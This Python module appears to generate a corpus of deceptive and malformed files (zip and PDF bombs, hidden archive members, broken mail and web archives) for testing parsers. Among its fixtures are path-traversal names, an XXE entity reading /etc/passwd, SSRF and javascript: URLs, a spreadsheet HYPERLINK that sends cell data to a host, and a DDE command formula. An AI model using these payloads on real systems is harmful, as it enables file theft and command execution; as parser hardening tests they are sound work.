"""Files that deceive: what they say of themselves is not so, or two readers of them see two different things.

As `harm.py`, which makes what explodes; `benchmarks/hostile.py --own` tries both.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Final

from PIL import Image
from pypdf import PdfWriter

from harm import CATALOG, FONT, PAGE, PAGES, WORDS, page, pdf, png, record, sheet, stream, strings, zipped

_MAIL: Final = b"From: a@b.example\nSubject: x\nMIME-Version: 1.0\n"
_W: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_REL: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _docx(body: str, more: Mapping[str, bytes]) -> bytes:
    head = f'<w:document xmlns:w="{_W}" xmlns:r="{_REL}"><w:body>{body}</w:body></w:document>'
    return zipped({"word/document.xml": head.encode(), **more})


def outward_docx() -> bytes:
    """A template, a picture and a whole text that lie elsewhere."""
    kinds = {"attachedTemplate": "http://127.0.0.1:9/t.dotm", "image": "file:///etc/passwd", "aFChunk": "afchunk.html"}
    links = "".join(
        f'<Relationship Id="r{n}" Type="{_REL}/{kind}" Target="{to}" TargetMode="External"/>'
        for n, (kind, to) in enumerate(kinds.items())
    )
    told = f'<w:p><w:r><w:t>{WORDS.decode()}</w:t></w:r></w:p><w:altChunk r:id="r2"/>'
    return _docx(told, {
        "word/_rels/document.xml.rels": f"<Relationships>{links}</Relationships>".encode(),
        "word/afchunk.html": b"<p>Nine people were killed in Jubata.</p>",
    })  # fmt: skip


def two_faced_docx() -> bytes:
    """Two texts under one name: which is read depends on who reads."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for words in ("Two people were killed.", "Nobody was killed."):
            body = f'<w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>{words}</w:t></w:r></w:p></w:body></w:document>'
            archive.writestr(zipfile.ZipInfo("word/document.xml"), body)
    return held.getvalue()


def renamed_zip() -> bytes:
    """A member whose own head and the list of members call it differently."""
    made = zipped({"aaaa.txt": WORDS})
    place = made.index(b"aaaa.txt")
    return made[:place] + b"bbbb.exe" + made[place + 8 :]


def lying_zip64() -> bytes:
    """A member that says it has 2^60 bytes."""
    made = bytearray(zipped({"a.txt": WORDS}, zipfile.ZIP_STORED))
    start = made.index(b"PK\x01\x02")
    extra = struct.pack("<HHQQ", 1, 16, 1 << 60, 1 << 60)
    made[start + 20 : start + 28] = b"\xff" * 8
    made[start + 30 : start + 32] = struct.pack("<H", len(extra))
    name = start + 46 + 5
    made[name:name] = extra
    end = made.index(b"PK\x05\x06")
    made[end + 12 : end + 16] = struct.pack("<L", end - start)
    return bytes(made)


def two_listed_zip() -> bytes:
    """An archive in the comment of another: two lists of members."""
    first, second = zipped({"a.txt": b"Nobody was killed."}), zipped({"b.txt": WORDS})
    return first[:-2] + struct.pack("<H", len(second)) + second


def hidden_zip() -> bytes:
    """A member that no list names, between two that it names."""
    whole = zipped({"a.txt": WORDS, "hidden.txt": b"Nine people were killed in Jubata.", "c.txt": b"One fled."})
    start = whole.index(b"PK\x01\x02")
    second = whole.index(b"PK\x01\x02", start + 4)
    third = whole.index(b"PK\x01\x02", second + 4)
    end = whole.index(b"PK\x05\x06")
    listing = whole[start:second] + whole[third:end]
    return whole[:start] + listing + struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, 2, 2, len(listing), start, 0)


def cased_zip() -> bytes:
    """Names that are one on some systems."""
    return zipped(
        {
            "Toll.txt": WORDS,
            "toll.txt": b"Nobody was killed.",
            "TOLL.TXT": b"Nine were killed.",
            "/etc/passwd": WORDS + b"1",
            "C:\\a.txt": WORDS + b"2",
            "a\\..\\..\\b.txt": WORDS + b"3",
        }
    )


def many_bags() -> bytes:
    """Bags in bags, each of which lists the same file in other words."""
    members = {}
    for n in range(300):
        members[f"{'a/' * n}bagit.txt"] = b"BagIt-Version: 1.0\n%d" % n
        members[f"{'a/' * n}manifest-sha512.txt"] = b"%0128d  %sdata/x.txt\n" % (n, b"a/" * (299 - n))
    return zipped({**members, f"{'a/' * 299}data/x.txt": WORDS * 100_000}, zipfile.ZIP_STORED)


def long_bag() -> bytes:
    """A list of files that is longer than what it lists."""
    lines = b"".join(b"%032x  data/%d.txt\n" % (n, n) for n in range(60_000))
    return zipped({"bagit.txt": b"BagIt-Version: 1.0\n", "manifest-md5.txt": lines, "data/1.txt": WORDS})


def extended_tar() -> bytes:
    """A name of fifty megabytes in an extended head."""
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("a" * 50_000_000)
        info.size = len(WORDS)
        archive.addfile(info, io.BytesIO(WORDS))
    return held.getvalue()


def chained_tar() -> bytes:
    """Two hundred thousand extended heads before one file."""
    held = tarfile.TarInfo("x")
    held.type, held.size = tarfile.XHDTYPE, 512
    block = held.tobuf(tarfile.USTAR_FORMAT) + b"9 a=bcde\n".ljust(512, b"\0")
    last = tarfile.TarInfo("a.txt")
    last.size = len(WORDS)
    return block * 50_000 + last.tobuf(tarfile.USTAR_FORMAT) + WORDS.ljust(512, b"\0") + bytes(1024)


def onion_gz() -> bytes:
    """Packed a hundred times."""
    data = WORDS
    for _ in range(100):
        data = gzip.compress(data, mtime=0)
    return data


def letters(depth: int) -> bytes:
    """A message in a message, and so on, each with words and an attachment of its own."""
    inner = _MAIL + b"\n" + WORDS
    for n in range(depth):
        mark = b"b%d" % n
        inner = (
            _MAIL
            + b"Content-Type: multipart/mixed; boundary=%s\n\n--%s\n\nLetter %d.\n--%s\nContent-Type: message/rfc822\n\n"
            % (mark, mark, n, mark)
            + inner
            + b"\n--%s--\n" % mark
        )
    return inner


def broken_letter() -> bytes:
    """Boundaries that are each other's beginnings, stand in the words, and never end."""
    return (
        _MAIL + b'Content-Type: multipart/mixed; boundary="a"\n\n--a\nContent-Type: multipart/alternative; boundary="aa"\n\n--aa\n\nTwo fell.\n'
        b"--aaa\nThree fell.\n--a\n\n" + WORDS + b"\n--aa--\n--ab\nContent-Type: text/plain\n\nFour fell.\n"
    )  # fmt: skip


def garbage_letter() -> bytes:
    """Attachments in Base64 that is none, and words in a quoted form that is none."""
    junk = b"".join(b"%c*=~\x80\xff " % (65 + n % 26) for n in range(2_000_000))
    return (
        _MAIL + b"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain; charset=x-none\nContent-Transfer-Encoding: quoted-printable\n\n"
        b"=ZZ=4" + WORDS + b"=\n=\n--b\nContent-Type: application/pdf; name=a.pdf\nContent-Transfer-Encoding: base64\n\n" + junk
        + b"\n--b\nContent-Type: image/png; name=b.png\nContent-Transfer-Encoding: x-uuencode\n\nbegin 644 b\n" + junk + b"\nend\n--b--\n"
    )  # fmt: skip


def cyclic_mhtml() -> bytes:
    """Frames that hold each other."""
    frames = b"".join(
        b"--b\nContent-Type: text/html\nContent-ID: <%d>\nContent-Location: http://news.example.org/%d\n\n<p>Frame %d says that two were killed.<iframe src='cid:%d'></iframe>\n"
        % (n, n, n, (n + 1) % 50)
        for n in range(50)
    )
    head = (
        b"From: saved\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b; type=text/html\n\n"
    )
    return head + frames + b"--b--\n"


def lying_warc(length: bytes) -> bytes:
    """A record whose length is another, between two good ones."""
    good, bad = record(b"HTTP/1.1 200 OK\r\n\r\n" + WORDS), record(b"HTTP/1.1 200 OK\r\n\r\n<p>Nine were killed.")
    place = bad.index(b"Content-Length: ") + 16
    return good + bad[:place] + length + bad[bad.index(b"\r\n", place) :] + good


def wacz(listing: object, files: Mapping[str, bytes]) -> bytes:
    """A collection with this list of its files."""
    return zipped({"datapackage.json": json.dumps(listing).encode(), **files})


def feed(count: int) -> bytes:
    """A feed of so many items."""
    items = b"".join(
        b"<item><title>Toll %d</title><link>http://news.example.org/%d</link></item>" % (n, n) for n in range(count)
    )
    return b"<?xml version='1.0'?><rss><channel><title>x</title>" + items + b"</channel></rss>"


def _file_feed() -> bytes:
    return b"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY f SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'http://127.0.0.1:9/x'>%p;]><rss><channel><item><title>&f; Two were killed</title></item></channel></rss>"


def locked_pdf() -> bytes:
    """A PDF that is locked with a password."""
    writer, held = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret", algorithm="RC4-128")
    writer.write(held)
    return held.getvalue()


def _tables_pdf() -> bytes:
    """A table of objects, packed, that claims two thousand million of them."""
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /XRef /Size 2000000000 /W [1 4 2] /Index [0 2000000000] /Root 1 0 R "
    data = zlib.compress(bytes(20_000_000))
    return (
        body
        + b"/Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
        + data
        + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"
    )


def _held_pdf() -> bytes:
    """A stream of objects that extends itself."""
    data = b"4 0 << /Type /Page >>"
    return pdf(
        CATALOG,
        PAGES,
        PAGE,
        b"<< /Type /ObjStm /N 1000000000 /First 4 /Extends 4 0 R /Length %d >>\nstream\n" % len(data)
        + data
        + b"\nendstream",
        FONT,
    )


def _filters_pdf() -> bytes:
    return pdf(
        CATALOG, PAGES, PAGE, stream(zlib.compress(b"x"), b"/Filter [" + b"/FlateDecode " * 100_000 + b"]"), FONT
    )


def _predicted_pdf() -> bytes:
    return pdf(
        CATALOG,
        PAGES,
        PAGE,
        stream(
            zlib.compress(bytes(30_000_000)),
            b"/Filter /FlateDecode /DecodeParms << /Predictor 15 /Colors 2000000000 /Columns 2000000000 >>",
        ),
        FONT,
    )


def _named_pdf() -> bytes:
    """Letters that the page shows as others: a table of characters with a million entries, and one of megabytes each."""
    table = b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange 1 beginbfrange <0000> <ffffffff> <0041> endbfrange endcmap"
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 6 0 R >>"
    return pdf(
        CATALOG, PAGES, PAGE, stream(b"BT /F 12 Tf (Two people were killed) Tj ET", b""), font, stream(table, b"")
    )


def frames_gif(count: int) -> bytes:
    """An animation of so many frames of one pixel."""
    frame = b"!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02\x4c\x01\0"
    return b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff" + frame * count + b";"


def frames_png(count: int) -> bytes:
    """A picture that says it has so many frames, and many small words about it."""
    plain = png(1, 1, zlib.compress(b"\0\0\0\0"))

    def chunk(kind: bytes, held: bytes) -> bytes:
        return struct.pack(">L", len(held)) + kind + held + struct.pack(">L", zlib.crc32(kind + held))

    told = chunk(b"acTL", struct.pack(">LL", count, 0)) + chunk(b"tEXt", b"Comment\0x") * 300_000
    return plain[:33] + told + plain[33:]


def words_png() -> bytes:
    """Words about a picture that unpack to a gigabyte."""
    plain, data = png(1, 1, zlib.compress(b"\0\0\0\0")), zlib.compress(bytes(1_000_000_000))

    def chunk(kind: bytes, held: bytes) -> bytes:
        return struct.pack(">L", len(held)) + kind + held + struct.pack(">L", zlib.crc32(kind + held))

    return plain[:33] + chunk(b"zTXt", b"Comment\0\0" + data) + chunk(b"iCCP", b"x\0\0" + data) + plain[33:]


def looping_tiff() -> bytes:
    """Directories that lead to themselves."""
    return b"II*\0" + struct.pack("<LH", 8, 1) + struct.pack("<HHLL", 34665, 4, 1, 8) + struct.pack("<L", 8)


def counted_tiff() -> bytes:
    """A tag of four thousand million numbers."""
    tags = ((256, 4, 1, 8), (257, 4, 1, 8), (273, 4, 0xFFFFFFFF, 8), (279, 4, 0xFFFFFFFF, 8), (270, 2, 0xFFFFFFF0, 8))
    return b"II*\0" + struct.pack("<LH", 8, len(tags)) + b"".join(struct.pack("<HHLL", *tag) for tag in tags) + bytes(4)


def huge_jpeg() -> bytes:
    """A picture that says it has 65,500 pixels each way."""
    held = io.BytesIO()
    Image.linear_gradient("L").resize((16, 16)).save(held, "JPEG")
    made = bytearray(held.getvalue())
    place = made.index(b"\xff\xc0")
    made[place + 5 : place + 9] = struct.pack(">HH", 65500, 65500)
    return bytes(made)


def _box(kind: bytes, *held: bytes) -> bytes:
    inner = b"".join(held)
    return struct.pack(">L", 8 + len(inner)) + kind + inner


def broken_mp4() -> bytes:
    """Boxes whose lengths are none, more than there is, and 2^63."""
    head = _box(b"ftyp", b"mp42", bytes(4))
    return (
        head
        + _box(b"moov", b"\0\0\0\0trak", b"\0\0\0\x01mdia" + b"\x7f" + b"\xff" * 7, b"\0\0\0\x03tkhd")
        + b"\xff\xff\xff\xffmdat"
    )


def deep_mp4() -> bytes:
    """Boxes in boxes, a hundred thousand deep."""
    kinds = (b"moov", b"trak", b"mdia", b"minf", b"stbl", b"udta")
    out = b"".join(struct.pack(">L", 8 * (100_000 - n)) + kinds[n % 6] for n in range(100_000))
    return _box(b"ftyp", b"mp42", bytes(4)) + out


def many_mp4() -> bytes:
    """Three million empty boxes."""
    return _box(b"ftyp", b"mp42", bytes(4)) + _box(b"moov", _box(b"trak") * 3_000_000)


RUSES: Final[Mapping[str, Callable[[], bytes]]] = {
    "outward.docx": outward_docx, "two-faced.docx": two_faced_docx, "renamed.zip": renamed_zip, "zip64.zip": lying_zip64,
    "two lists.zip": two_listed_zip, "hidden.zip": hidden_zip, "cased.zip": cased_zip, "many bags.zip": many_bags, "long bag.zip": long_bag, "extended.tar": extended_tar,
    "chained.tar": chained_tar, "onion.txt.gz": onion_gz,
    "members.gz": lambda: gzip.compress(b"", mtime=0) * 500_000 + gzip.compress(WORDS, mtime=0),
    "two members.gz": lambda: gzip.compress(WORDS, mtime=0) + gzip.compress(b" Nine fled.", mtime=0),
    "tail.gz": lambda: gzip.compress(WORDS, mtime=0) + b"Nine were killed.",
    "named.gz": lambda: b"\x1f\x8b\x08\x08\0\0\0\0\0\xff" + b"a" * 30_000_000 + gzip.compress(WORDS, mtime=0)[9:],
    "members.bz2": lambda: bz2.compress(b"") * 300_000 + bz2.compress(WORDS),
    "letters 200.eml": lambda: letters(200), "letters 15.eml": lambda: letters(15), "boundaries.eml": broken_letter, "garbage.eml": garbage_letter,
    "preamble.eml": lambda: _MAIL + b"Content-Type: multipart/mixed; boundary=b\n\n" + b"Nobody is to see this line of words.\n" * 1_700_000 + b"--b\n\n" + WORDS + b"\n--b--\n",
    "epilogue.eml": lambda: _MAIL + b"Content-Type: multipart/mixed; boundary=b\n\n--b\n\n" + WORDS + b"\n--b--\n" + b"Nobody is to see this line of words.\n" * 1_700_000,
    "short lines.eml": lambda: _MAIL + b"Content-Type: multipart/mixed; boundary=b\n\n" + b"x\n" * 15_000_000 + b"--b\n\n" + WORDS + b"\n--b--\n",
    "long line.eml": lambda: _MAIL + b"X-A: " + b"a" * 60_000_000 + b"\n\n" + WORDS,
    "base64.eml": lambda: _MAIL + b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(WORDS * 600_000),
    "headers.eml": lambda: _MAIL + b"".join(b"X-%d: a\n" % n for n in range(1_000_000)) + b"\n" + WORDS,
    "no boundary.eml": lambda: _MAIL + b"Content-Type: multipart/mixed\n\n--b\n\n" + WORDS + b"\n--b--\n",
    "cyclic.mhtml": cyclic_mhtml,
    "large mail.mbox": lambda: b"From a 2031\nSubject: x\n\n" + b">From b 2031\nTwo were killed.\n" * 1_500_000,
    "short.warc": lambda: lying_warc(b"20"), "long.warc": lambda: lying_warc(b"99999999999999999999999999"),
    "minus.warc": lambda: lying_warc(b"-5"), "plus.warc": lambda: lying_warc(b"+47"), "digits.warc": lambda: lying_warc("٤٧".encode()),
    "many.warc": lambda: record(b"HTTP/1.1 200 OK\r\n\r\n" + WORDS) * 120_000,
    "no list.wacz": lambda: zipped({"archive/a.warc": record(b"HTTP/1.1 200 OK\r\n\r\n" + WORDS)}),
    "no files.wacz": lambda: wacz({"resources": []}, {"archive/a.warc": record(b"HTTP/1.1 200 OK\r\n\r\n" + WORDS)}),
    "leads out.wacz": lambda: wacz({"resources": [{"path": "../../etc/passwd", "hash": "sha256:" + "0" * 64, "bytes": -1}]}, {}),
    "odd list.wacz": lambda: wacz({"resources": [[1], None, {"path": {"a": 1}}]}, {"archive/a.warc": b"WARC/1.0\r\n"}),
    "nul.csv": lambda: b"name,killed\nA\0B,2\n" + b"x" * 10_000_000 + b",3\n\0\0,4\n",
    "numbers.jsonl": lambda: b'{"text":"Two were killed.","id":1e400}\n{"text":"Three were killed.","x":1e400}\n{"text":"Four were killed.","id":NaN}\n{"text":"Five \\ud800 were killed."}\n{"text":"Six were killed.","id":9007199254740993}\n{"text":"Seven were killed.","id":' + b"9" * 5000 + b'}\n\xef\xbb\xbf{"text":"Eight were killed."}\n{"text":"Nine were killed.","text":"Nobody"}\n',
    "halves.json": lambda: b'{"posts": [{"text": "Two \\ud83d were killed", "id": 1}, {"text": "\\udc00", "id": 1}]}',
    "many posts.json": lambda: json.dumps([{"id": n, "text": f"Post {n}: two were killed.", "date": "2031-03-08"} for n in range(30_000)]).encode(),
    "many.rss": lambda: feed(100_000), "files.rss": _file_feed,
    "utf-16.rss": lambda: "\ufeff<?xml version='1.0' encoding='utf-16'?><rss><channel><item><title>Two were killed</title></item></channel></rss>".encode("utf-16-le"),
    "attribute.html": lambda: page(b"<p title='" + b"a &amp; b" * 1_000_000 + b"'>x</p>"),
    "base.html": lambda: page(b"<a href='1.html'>x</a>", b"<base href='javascript:alert(1)'><base href='//evil.example/'><link rel=canonical href='http://169.254.169.254/'><meta http-equiv=refresh content='0;url=file:///etc/passwd'><meta charset=utf-8>"),
    "utf-16 lies.html": lambda: page(b"", b"<meta charset=utf-8>").decode().encode("utf-16-be"),
    "frames.html": lambda: page(b"<iframe srcdoc='&lt;p&gt;Nine were killed.'></iframe><template><p>Eight were killed.</template><noscript><p>Seven were killed.</noscript><p hidden>Six were killed.<p style='display:none'>Five were killed.<select><option>Four were killed.</select><textarea>Three were killed.</textarea>"),
    "title.html": lambda: page(b"", b"<meta charset=utf-8><title>" + b"word " * 6_000_000 + b"</title>"),
    "scripts.html": lambda: page(b"<script>" * 500_000), "quotes.html": lambda: page(b"<a href='x\"" * 500_000),
    "text.html": lambda: page(b"".join(b"<p>On day %d two people were killed in Jubata, the Monitor said.</p>" % n for n in range(300_000))),
    "locked.pdf": locked_pdf, "tables.pdf": _tables_pdf, "held.pdf": _held_pdf, "filters.pdf": _filters_pdf, "predicted.pdf": _predicted_pdf, "letters.pdf": _named_pdf,
    "pages.pdf": lambda: pdf(CATALOG, b"<< /Type /Pages /Kids [" + b"3 0 R " * 500_000 + b"] /Count 500000 >>", PAGE, stream(b"BT /F 12 Tf (x) Tj ET", b""), FONT),
    "lines.pdf": lambda: b"%PDF-1.7\n" + b"1 0 obj\n" * 3_000_000,
    "frames.gif": lambda: frames_gif(1_000_000), "frames.png": lambda: frames_png(4_000_000_000), "words.png": words_png,
    "looping.tif": looping_tiff, "counted.tif": counted_tiff, "huge.jpg": huge_jpeg,
    "uses.svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'><g id='a0'><path/></g>" + b"".join(b"<g id='a%d'>" % (n + 1) + b"<use x:href='#a%d'/>" % n * 10 + b"</g>" for n in range(30)) + b"<image href='data:image/png;base64,AAAA'/></svg>",
    "broken.mp4": broken_mp4, "deep.mp4": deep_mp4, "many.mp4": many_mp4,
    "linked.xlsx": lambda: sheet(strings(b"<si><t>a</t></si>"), b'<row><c><f>HYPERLINK("http://127.0.0.1:9/x"&amp;A1)</f><v>Two were killed</v></c><c><f>cmd|\' /C calc\'!A0</f><v>3</v></c></row>'),
    "rows.xlsx": lambda: sheet(strings(b"<si><t>a</t></si>"), b"<row/>" * 10_000_000),
    "merged.xlsx": lambda: sheet(strings(b"<si><t>a</t></si>"), b'<row r="1"><c r="A1"><v>' + b"9" * 20_000_000 + b"</v></c></row>"),
    "breaks.txt": lambda: b"\n" * 30_000_000 + WORDS, "spaces.txt": lambda: b"killed" + b" " * 20_000_000 + WORDS,
    "numbers.txt": lambda: b"1,000" + b",000" * 1_000_000 + b" people were killed.",
    "commas.txt": lambda: b"A, B, C and D, " * 200_000 + WORDS,
    "controls.txt": lambda: b"\x1b[2J\x1b]0;x\x07" * 100 + WORDS,
}  # fmt: skip
"""What deceives, by a file name; each function makes the bytes anew."""
